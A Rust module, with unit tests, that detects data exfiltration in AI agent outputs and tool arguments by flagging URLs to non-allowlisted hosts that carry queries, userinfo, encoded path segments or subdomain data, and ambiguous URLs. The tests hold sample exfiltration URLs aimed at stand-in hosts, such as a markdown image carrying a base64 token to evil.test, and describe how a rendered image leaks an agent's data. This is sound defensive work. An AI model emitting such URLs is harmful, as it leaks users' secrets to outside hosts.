//! Exfiltration checks on agent outputs and tool arguments: URLs (bare, markdown images and
//! links, or a whole argument) that would carry data to a host outside the allowlist.
//! A rendered markdown image is fetched without a click, so an image URL with data in it
//! leaks that data.
//!
//! URLs are read as HTTP clients read them ([`super::urls`]): the host is the one the `url`
//! crate (WHATWG) parses, and a URL other clients could read differently (backslashes,
//! control characters, several `@`, percent-encoded, IDNA-mapped or numeric-IPv4 hosts, a host
//! the parser refuses) is reported whatever its host, with reason `ambiguous URL`.
//!
//! To a host outside the allowlist, a URL carries data when it has any of:
//! - userinfo (`user:password@`);
//! - a query (anything after `?`, however short);
//! - a path segment or fragment of 64 characters or more, or of 24 or more characters of
//!   letters, digits and `+-_=%` (base64, hex, tokens);
//! - labels left of the registrable domain other than one `www` (`c2VjcmV0.evil.test`,
//!   `alice.evil.test`); the registrable domain is the last two labels, or three under a
//!   two-letter country code with a generic second level (`co.uk`), which errs towards
//!   reporting.
//!
//! A string that is one URL is also read whole, as a client handed it would: tabs and line
//! breaks removed, spaces percent-encoded; tabs, line breaks or control characters inside a
//! string without spaces make it ambiguous. Whole-string readings of text with spaces judge
//! only what follows the host (userinfo, query, fragment) and the host, not the path.
//! A string starting with a host name and a `/`, `?` or `#` is read as `http://` plus the
//! string, since tools often add the scheme.

use std::collections::BTreeSet;

use serde::Serialize;

use super::urls::{self, Context};

/// A URL that would carry data out, or that clients may read differently.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct UrlFinding {
    /// The host, as the WHATWG URL parser reads it (lower case, IDNA to ASCII, IPv4 dotted,
    /// IPv6 in brackets); the visible host when the parser refuses the URL.
    pub host: String,
    /// Byte range of the URL in the checked text (on character boundaries).
    pub start: usize,
    /// End byte (exclusive).
    pub end: usize,
    /// `markdown_image`, `markdown_link` or `url`, then why it counts as carrying data
    /// (`query`, `userinfo`, `encoded path segment`, `encoded fragment`, `subdomain labels`)
    /// or `ambiguous URL (...)`.
    pub reason: String,
}

/// Which hosts may receive data in URLs. Hosts match exactly or as a parent domain
/// (`example.com` allows `img.example.com`); IP addresses match exactly. Entries are read as
/// the URL parser reads hosts (`Bücher.example` is `xn--bcher-kva.example`).
#[derive(Debug, Clone, Default)]
pub struct ExfiltrationCheck {
    allowed: BTreeSet<String>,
}

/// A host as compared with the allowlist: the parser's form, without a trailing dot.
fn canonical_host(host: &str) -> String {
    let host = host.trim().trim_end_matches('.');
    match url::Host::parse(host) {
        Ok(url::Host::Domain(d)) => d.trim_end_matches('.').to_owned(),
        Ok(ip) => ip.to_string(),
        Err(_) => host.to_ascii_lowercase(),
    }
}

fn is_ip(host: &str) -> bool {
    host.starts_with('[') || host.parse::<std::net::Ipv4Addr>().is_ok()
}

impl ExfiltrationCheck {
    /// A check that allows data-carrying URLs to `hosts` only.
    pub fn allowing<I, S>(hosts: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        Self {
            allowed: hosts
                .into_iter()
                .map(|h| canonical_host(h.as_ref()))
                .filter(|h| !h.is_empty())
                .collect(),
        }
    }

    /// Whether `host` is allowed.
    pub fn allows(&self, host: &str) -> bool {
        let host = canonical_host(host);
        if is_ip(&host) {
            return self.allowed.contains(&host);
        }
        self.allowed.iter().any(|a| {
            host == *a
                || (!is_ip(a)
                    && host
                        .strip_suffix(a.as_str())
                        .is_some_and(|rest| rest.ends_with('.')))
        })
    }

    /// The host a tool reaches when it is handed `text` (a whole argument) as its URL, as the
    /// WHATWG parser reads it: `Ok(None)` when `text` is not a URL at all, `Err(why)` when
    /// clients may read another host than it shows (percent-encoding, a backslash, several `@`,
    /// control characters) or no host at all, so it cannot be checked against an allowlist.
    pub fn destination(text: &str) -> Result<Option<String>, String> {
        let Some(candidate) = urls::whole(text) else {
            return Ok(None);
        };
        match urls::read(text, &candidate) {
            None => Err("the URL shows no host".to_owned()),
            Some(reading) => match reading.ambiguous {
                Some(why) => Err(format!("ambiguous URL ({why})")),
                None if reading.host.is_empty() => Err("the URL shows no host".to_owned()),
                None => Ok(Some(canonical_host(&reading.host))),
            },
        }
    }

    /// Every URL in `text` that carries data to a host outside the allowlist, or that clients
    /// may read differently (whatever its host). The whole text is examined.
    pub fn check_text(&self, text: &str) -> Vec<UrlFinding> {
        // Every URL the readers below find has a scheme (`x:`), starts with `//`, or is a bare
        // host followed by `/`, `?` or `#`: text with none of these bytes holds none, and most
        // arguments (names, amounts, currency codes) are such text.
        if !text.bytes().any(|b| matches!(b, b':' | b'/' | b'?' | b'#')) {
            return Vec::new();
        }
        let mut out: Vec<UrlFinding> = Vec::new();
        let whole = urls::whole(text);
        for candidate in whole.iter().chain(urls::candidates(text).iter()) {
            let Some(finding) = self.judge(text, candidate) else {
                continue;
            };
            let seen = out
                .iter()
                .any(|f| f.start == finding.start && f.host == finding.host);
            if !seen {
                out.push(finding);
            }
        }
        out
    }

    fn judge(&self, text: &str, candidate: &urls::Candidate) -> Option<UrlFinding> {
        let reading = urls::read(text, candidate)?;
        let kind = candidate.context.name();
        let finding = |why: String| UrlFinding {
            host: reading.host.clone(),
            start: candidate.start,
            end: candidate.end,
            reason: format!("{kind}: {why}"),
        };
        if let Some(why) = reading.ambiguous {
            return Some(finding(format!("ambiguous URL ({why})")));
        }
        if self.allows(&reading.host) {
            return None;
        }
        let url = reading.url.as_ref()?;
        let spaced = candidate.context == Context::Whole
            && text
                .get(candidate.start..candidate.end)
                .is_some_and(|raw| raw.contains(' '));
        carries_data(url, !spaced).map(|why| finding(why.to_owned()))
    }
}

/// A path segment or fragment that looks like data.
fn dense(part: &str) -> bool {
    part.len() >= 64
        || (part.len() >= 24
            && part.bytes().all(|b| {
                b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'_' | b'=' | b'%')
            }))
}

/// Why a parsed URL carries data, if it does (see the module docs).
fn carries_data(url: &url::Url, judge_path: bool) -> Option<&'static str> {
    if !url.username().is_empty() || url.password().is_some() {
        return Some("userinfo");
    }
    if url.query().is_some_and(|q| !q.is_empty()) {
        return Some("query");
    }
    if url.fragment().is_some_and(dense) {
        return Some("encoded fragment");
    }
    if judge_path && url.path().split('/').any(dense) {
        return Some("encoded path segment");
    }
    if urls::has_subdomain_labels(url) {
        return Some("subdomain labels");
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn markdown_images_with_data_to_outside_hosts() {
        let check = ExfiltrationCheck::allowing(["acme.example"]);
        let text = "Done! ![chart](https://evil.test/pixel.png?d=c2VjcmV0LXRva2VuLTEyMw) and ![ok](https://img.acme.example/a.png?v=123456789)";
        let found = check.check_text(text);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].host, "evil.test");
        assert!(found[0].reason.starts_with("markdown_image"));
        assert_eq!(
            &text[found[0].start..found[0].end],
            "https://evil.test/pixel.png?d=c2VjcmV0LXRva2VuLTEyMw"
        );
    }

    #[test]
    fn plain_links_without_data_pass() {
        let check = ExfiltrationCheck::default();
        assert!(
            check
                .check_text("see https://docs.rs/regex and [home](https://example.org/)")
                .is_empty()
        );
        let found = check.check_text("[x](https://evil.test/c/QUtJQUlPU0ZPRE5ON0VYQU1QTEVLRVk1)");
        assert_eq!(found[0].reason, "markdown_link: encoded path segment");
    }

    #[test]
    fn destination_reads_the_host_a_client_reaches() {
        let host = |t: &str| ExfiltrationCheck::destination(t);
        assert_eq!(
            host("https://acme.example/agenda"),
            Ok(Some("acme.example".into()))
        );
        assert_eq!(
            host("HTTPS://Acme.Example./x"),
            Ok(Some("acme.example".into()))
        );
        assert_eq!(
            host("evil.example/collect?d=1"),
            Ok(Some("evil.example".into()))
        );
        assert_eq!(host("just words"), Ok(None));
        assert!(
            host("https://acme.example@evil.example/")
                .is_ok_and(|h| h.as_deref() == Some("evil.example"))
        );
        for ambiguous in [
            "https://acme.example\\@evil.example/",
            "https://a@b@evil.example/",
            "http://%65vil.example/",
        ] {
            assert!(host(ambiguous).is_err(), "{ambiguous}");
        }
    }

    #[test]
    fn parent_domains_allow_subdomains_only() {
        let check = ExfiltrationCheck::allowing(["acme.example"]);
        assert!(check.allows("acme.example") && check.allows("cdn.acme.example"));
        assert!(!check.allows("evilacme.example") && !check.allows("acme.example.evil.test"));
    }
}
